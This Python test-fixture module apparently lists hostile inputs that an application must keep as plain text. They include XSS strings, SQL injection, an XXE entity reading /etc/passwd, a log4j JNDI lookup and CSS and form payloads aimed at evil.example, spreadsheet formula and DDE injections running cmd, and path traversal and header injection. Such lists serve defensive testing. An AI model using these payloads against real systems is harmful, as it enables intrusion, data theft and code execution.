"""Words that somebody may type, paste or import, and that must never become anything but words."""

from __future__ import annotations

SUM, SOLVED = "7919*7907", str(7919 * 7907)
"""A sum that a template would work out, to a number that no date and no time of day holds."""
MARK = "data-evil"
"""Every word that would be markup carries this attribute."""

HOSTILE = {
    # Markup and script: out of a text, out of an attribute, out of a title, a textarea, a comment, a style.
    "script": "<script data-evil>alert(1)</script>",
    "attribute": '"><img data-evil src=x onerror=alert(1)>',
    "single quote": "'><svg data-evil onload=alert(1)>",
    "textarea": "</textarea><b data-evil>x",
    "title": "</title><b data-evil>x",
    "comment": "--><b data-evil>x<!--",
    "style": "</style><style data-evil>*{display:none}",
    "css": "@import url(//evil.example);}*{color:red",
    "frame": "<iframe data-evil src=/settings></iframe>",
    "form": "<form data-evil action=//evil.example><input name=csrf_token>",
    "base": "<base data-evil href=//evil.example><meta http-equiv=refresh content=0>",
    "server side": '<!--#exec cmd="ls"--><?php echo 1?><%= 1 %>',
    "entities": "&lt;b&gt; &amp; &#0; &#x3c;b&#x3e; &notanentity",
    "cdata": "]]><![CDATA[<b data-evil>x</b>]]>",
    "xml entity": "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "json": '\\u003cscript\\u003e\\",{"a":null}',
    # Templates, formats and look-ups.
    "jinja": f"{{{{{SUM}}}}}{{% include '/etc/passwd' %}}",
    "format": f"${{{SUM}}}#{{{SUM}}}%s%n{{0.__class__}}",
    "log4j": "${jndi:ldap://evil.example/a}",
    # Spreadsheets.
    "formula =": "=cmd|' /C calc'!A0",
    "formula +": "+1+1|cmd",
    "formula -": "-1+1|cmd",
    "formula @": "@SUM(1)|cmd",
    "formula tab": "\t=1+1|cmd",
    "formula return": "\r=1+1|cmd",
    "formula wide": "＝1+1|cmd",
    "dde": 'DDE("cmd";"/C calc")',
    "link formula": '=HYPERLINK("http://evil.example","x")',
    # Databases, search, directories, patterns.
    "sql": "Robert'); DROP TABLE client;--",
    "sql or": "' OR '1'='1' UNION SELECT * FROM worker--",
    "search": '"NEAR(a b, 5) AND NOT *:^ -x OR (title:',
    "ldap": "*)(uid=*))(|(uid=*",
    "regex": "(a+)+$ [^ \\1 .*? (?:",
    "wildcards": "%_%%__%",
    # Files, addresses, mail.
    "path": "../../etc/passwd ..\\..\\windows",
    "device": "CON.txt NUL AUX COM1 LPT1:",
    "percent": "%00%0d%0aSet-Cookie:%20a=b %2e%2e%2f",
    "javascript": "javascript:alert(1)//",
    "data": "data:text/html;base64,PHNjcmlwdD4=",
    "file": "file:///etc/hostname",
    "mail": "mailto:x@evil.example?bcc=y%0d%0aBcc:z",
    "tel": "tel:*21*01632960001#;phone-context=evil",
    "markdown": "# x\n* [x](javascript:alert(1)) ![x](//evil.example) `x`",
    # Letters.
    "right to left": "\u202egnp.exe\u202c abc",
    "unseen": "\ufeffze\u200bro\u2066 wi\u00addth\u2069\u0007",
    "combining": "a\u0301\u0302\u0323" * 12,
    "joined emoji": "👩🏽\u200d❤️\u200d👨🏿 🏴\U000e0067\U000e0062\U000e007f 😀",
    "astral": "𝕱𝖆𝖐𝖊 𠮷野 𓀀",
    "half a pair": "\\ud83d \ufffd \\udc00",
    "lines": "one\u2028two\u2029three\x85four\u00a0five",
    "no sign": "no\uffffsign\ufdd0at\U0001fffeall",
    "turkish": "İıŞşĞğ ISTANBUL",
    "ligatures": "ﬁﬂ ĳ ŉ ß ſ Æ œ ﷺ",
    "welsh": "Llŷr Ŵyn ap Siân, Tŷ’r Ŵ",
    "arabic": "السَّلَامُ عَلَيْكُمْ ١٢٣ (abc)",
    "devanagari": "क्षत्रिय श्री ज्ञान हिन्दी",
    "nothing": "null None undefined NaN true -0",
    "long": "x" * 600,
}
"""By a name for each; none is a part of another."""

ALL = tuple(HOSTILE.values())
